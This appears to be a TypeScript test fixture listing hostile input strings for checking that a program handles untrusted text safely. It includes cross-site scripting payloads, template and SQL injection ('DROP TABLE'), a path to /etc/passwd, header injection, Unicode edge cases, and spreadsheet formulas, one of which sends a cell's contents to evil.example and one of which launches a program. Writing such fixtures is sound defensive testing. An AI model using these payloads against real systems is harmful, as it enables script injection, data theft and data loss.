/** Texts that make careless programs run, break, or show something else, by what is wrong with them. */
export const HOSTILE_TEXTS: Record<string, string> = {
  'an HTML tag': '<b onmouseover="alert(1)">bold</b>',
  'a script': `<script>window.__ran = 'script'</script>`,
  'a picture that fails to load': `<img src=x onerror="window.__ran = 'img'">`,
  'an SVG with a handler': `<svg onload="window.__ran = 'svg'"></svg>`,
  'a way out of an attribute': `" autofocus onfocus="window.__ran = 'attribute'" x="`,
  'a way out of a script block': `</script><script>window.__ran = 'out'</script><!--`,
  'a script address': 'javascript:window.__ran="address"',
  'a template': '{{constructor.constructor("window.__ran=1")()}} ${7*7} <%= 7*7 %> #{7*7}',
  'a formula': '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  'a formula that runs a program': "=cmd|' /C calc'!A0",
  'a formula with a plus': '+1+1',
  'a formula with an at': '@SUM(1+1)*cmd',
  SQL: `'; DROP TABLE clients; --`,
  'a LIKE pattern': '100%_\\%',
  'a path': '../../../../etc/passwd',
  'a right-to-left override': 'invoice\u202egpj.exe',
  'isolates that never end': '\u2066\u2067\u2068open',
  'characters of no width': 'zero\u200bwidth\u200djoined\ufeffmarked',
  zalgo: `Z${'\u0315\u035c\u0489'.repeat(12)}algo`,
  'a family of emoji': '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇵🇹',
  'characters beyond the first plane': '𝕊𝕖𝕔𝕣𝕖𝕥 𐍈 𠜎',
  'what is not a character': 'non\ufffe\uffffcharacter',
  'two forms of one letter': 'Å \u0041\u030a',
  'a letter that grows in capitals': 'ßŉǰΐ',
  'Turkish letters': 'İstanbul ıİiI',
  'words of JavaScript': 'undefined null NaN true [object Object] __proto__',
};

/** Texts of several lines, which a field of one line refuses. */
export const HOSTILE_LINES: Record<string, string> = {
  'a header line': 'a\r\nSet-Cookie: sid=evil',
  'line separators': 'one\u2028two\u2029three',
  tabs: 'one\ttwo\n\tthree',
};

/** Texts that every field refuses: the database cannot hold them, or other programs obey them. */
export const REFUSED_TEXTS: Record<string, string> = {
  'a NUL character': 'before\u0000after',
  'a control sequence': 'before\u001b[31mafter',
  'a bell': 'before\u0007after',
  'a control character of the second set': 'before\u0085after',
  'half a character': 'before\ud800after',
  'the other half': 'before\udfffafter',
};
